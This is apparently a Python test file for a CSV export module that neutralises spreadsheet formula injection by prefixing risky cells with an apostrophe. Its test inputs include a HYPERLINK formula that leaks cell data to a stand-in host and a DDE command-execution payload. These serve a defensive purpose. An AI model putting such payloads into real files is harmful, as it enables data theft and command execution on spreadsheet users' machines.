"""CSV that a spreadsheet does not run, and that reads back as it was."""

from __future__ import annotations

import csv
import io

import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from eraser.files.cells import as_csv, quoted, unquoted

LINK = '=HYPERLINK("http://evil.example/"&A1,"x")'
RUN = (LINK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1", " =1+1", "＝1+1", "-1-1")


@pytest.mark.parametrize("text", RUN)
def test_what_a_spreadsheet_would_run_gets_an_apostrophe(text):
    assert quoted(text) == f"'{text}"


@pytest.mark.parametrize("text", ["", "-", "=", "-0.5", "+1e-5", "-.5", "a=b", "token_f1", "'tis", "gold"])
def test_other_cells_stay(text):
    assert quoted(text) == text


BEGINS = st.text(alphabet="'=+-@\t\r\n 1.e=a＝", max_size=6)


@given(st.builds(str.__add__, BEGINS, st.text(max_size=4)))
def test_a_text_is_read_back_as_it_was(text):
    assert unquoted(quoted(text)) == text


@given(
    st.builds(str.__add__, BEGINS, st.text(max_size=4)), st.builds(str.__add__, BEGINS, st.text(max_size=4))
)
def test_two_texts_are_never_one_cell(one, other):
    assert (quoted(one) == quoted(other)) == (one == other)


def test_a_table_has_its_numbers_as_they_are():
    table = pd.DataFrame({
        "community": ["Women", LINK], "auc": [0.5, -0.25], "n": [3, -4], "n_toxic": [pd.NA, -2],
        "tie": [True, None], "mixed": [-1.5, "-x"],
    })  # fmt: skip
    rows = list(csv.reader(io.StringIO(as_csv(table))))
    assert rows == [
        ["community", "auc", "n", "n_toxic", "tie", "mixed"],
        ["Women", "0.5", "3", "", "True", "-1.5"],
        [f"'{LINK}", "-0.25", "-4", "-2", "", "'-x"],
    ]


def test_names_of_columns_are_texts_too():
    assert as_csv(pd.DataFrame({"=1+1": [1]})) == "'=1+1\n1\n"
    twice = pd.DataFrame([[1, 2]], columns=["a", "a"])
    assert as_csv(twice) == "a,a\n1,2\n"


def test_what_has_nothing_to_quote_is_written_as_pandas_writes_it():
    table = pd.DataFrame({"method": ["a", "b,c"], "budget": ["-", "gold"], "value": [0.1 + 0.2, None]})
    assert as_csv(table) == table.to_csv(index=False)
    assert as_csv(table.iloc[:0]) == table.iloc[:0].to_csv(index=False)
